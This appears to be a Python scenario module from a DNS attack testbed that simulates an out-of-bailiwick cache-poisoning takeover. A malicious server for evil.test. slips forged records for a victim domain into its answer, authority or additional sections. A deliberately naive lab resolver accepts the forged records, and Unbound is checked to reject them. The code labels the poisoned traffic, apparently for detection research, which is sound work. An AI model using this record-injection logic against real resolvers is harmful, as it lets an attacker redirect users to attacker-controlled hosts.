"""The server of one zone lies about another one in the answers that it is asked for; an old resolver believes it."""

from .. import wire
from ..evil import EvilServer
from ..guessing import address
from . import kaminsky
from ...net import ipv4
from .racing import insist

KIND = "out-of-bailiwick-takeover"
OWN = "evil.test."
FORMS = ("additional", "authority", "answer")
"""Where the records of the other zone stand."""


def prepare(act):
    """The resolver that believes everything."""
    act.world.start_naive(1)


def play(act):
    """Also asked by a resolver that believes nothing of it."""
    zone = kaminsky.zone(act)
    act.warm(*act.pick(zone, 6), resolver="naive", kinds=("A",), signatures=False)
    act.warm(*act.pick(zone, 6), resolver="open", kinds=("A",))
    victim, = act.pick(zone)
    form = act.rng.choice(FORMS)
    act.labels.poison(lambda payload: wire.name(victim) in payload and wire.rdata("A", act.evil()) in payload)
    with EvilServer(act, lambda name, kind: content(act, zone, victim, form, kind)):
        for resolver in ("open", "naive"):
            answer = act.ask(resolver, f"{act.rng.choice(('www', 'free', 'cdn'))}.{OWN}")
            insist(act.evil() in answer.text, "the attacker's own zone is not served", answer)
        answer = act.ask("open", victim, host="client2")
        insist(act.evil() not in answer.text, "Unbound believes in records of another zone", answer)
        kaminsky.victims(act, "naive", victim)
    act.labels.target(ipv4("naive"), victim if form != "authority" else zone)


def content(act, zone, victim, form, kind):
    """The answer that was asked for, and records that were not: an address, or a server that will be asked for it."""
    if kind != wire.TYPES["A"]:
        return [], [], []
    answer = [address(act)]
    own = [wire.record(OWN, "NS", act.ttl, wire.name("ns." + OWN))]
    glue = [address(act, "ns." + OWN)]
    if form == "answer":
        return answer + [address(act, victim)], own, glue
    if form == "additional":
        return answer, own + [wire.record(OWN, "NS", act.ttl, wire.name(victim))], glue + [address(act, victim)]
    return answer, own + [wire.record(zone, "NS", act.ttl, wire.name("ns." + OWN))], glue
